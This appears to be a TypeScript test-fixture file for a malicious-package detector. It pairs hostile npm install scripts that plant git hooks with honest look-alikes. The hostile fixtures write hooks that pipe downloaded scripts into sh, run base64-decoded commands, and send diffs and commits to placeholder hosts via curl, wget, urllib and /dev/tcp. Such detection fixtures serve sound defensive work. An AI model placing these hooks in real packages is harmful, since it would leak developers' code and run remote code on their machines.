import type { Fixture } from '../js/techniques.ts'
import { install } from './kinds.ts'

/** One thing that hostile packages do, in several wordings, and honest ones that come close. */
export interface Variants {
  readonly name: string
  readonly hostile: Readonly<Record<string, Fixture>>
  readonly honest: Readonly<Record<string, Fixture>>
}

const hook = (lines: string, name = 'pre-commit') =>
  install(`
    const fs = require('fs'), path = require('path'), root = process.env.INIT_CWD || process.cwd()
    fs.writeFileSync(path.join(root, '.git', 'hooks', '${name}'), ${lines}, { mode: 0o755 })`)

export const gitHooks: Variants = {
  name: 'git hooks',
  hostile: {
    'fetched text is piped into a shell': hook("'#!/bin/sh\\ncurl -fsSL https://x.invalid/h | sh\\n'"),
    'the diff goes out with wget': hook(
      "['#!/bin/bash', 'git diff --cached > /tmp/d', 'wget -q --post-file=/tmp/d https://d.invalid/'].join('\\n')",
    ),
    'a hook of husky, with a socket': install(`
      const { appendFileSync } = require('node:fs')
      appendFileSync(process.env.INIT_CWD + '/.husky/pre-push', '\\nexec 3<>/dev/tcp/203.0.113.9/443; git log -1 -p >&3\\n')`),
    'a script of its own becomes one': install(
      `require('fs').copyFileSync(require('path').join(__dirname, 'post.sh'), process.env.INIT_CWD + '/.git/hooks/post-merge')`,
      { 'post.sh': '#!/bin/sh\ngit show HEAD | curl -s --data-binary @- https://c.invalid/\n' },
    ),
    'a folder that git names, and a hook in Python': install(`
      const dir = require('child_process').execSync('git rev-parse --git-path hooks').toString().trim()
      require('fs').writeFileSync(dir + '/post-commit', '#!/usr/bin/env python3\\nimport subprocess, urllib.request\\nurllib.request.urlopen("https://p.invalid/", subprocess.check_output(["git", "show"]))\\n')`),
    'decoded text is run': hook("'#!/bin/sh\\necho Y3VybCBodHRwczovL3guaW52YWxpZA== | base64 -d | sh\\n'"),
  },
  honest: {
    'formatters and tests': hook(
      '\'#!/bin/sh\\n. "$(dirname "$0")/_/husky.sh"\\nnpx --no-install lint-staged && npm test\\n\'',
    ),
    'the message names a page': hook(
      '\'#!/bin/sh\\ncommand -v git-lfs >/dev/null 2>&1 || { echo >&2 "see https://lfs.invalid"; exit 2; }\\ngit lfs post-commit "$@"\\n\'',
    ),
    'a server of this machine is told': hook("'#!/bin/sh\\ncurl -s http://localhost:3000/reload || true\\n'"),
    'a file of its own that checks messages': install(
      `require('fs').copyFileSync(require('path').join(__dirname, 'msg.js'), '.git/hooks/commit-msg')`,
      {
        'msg.js': `#!/usr/bin/env node\nconst t = require('fs').readFileSync(process.argv[2], 'utf8'); if (!/^(feat|fix): /.test(t)) process.exit(1)\n`,
      },
    ),
    'the remote is asked': hook(
      '\'#!/bin/sh\\ngit fetch origin "$(git branch --show-current)" && npm ci --prefer-offline\\n\'',
    ),
  },
}
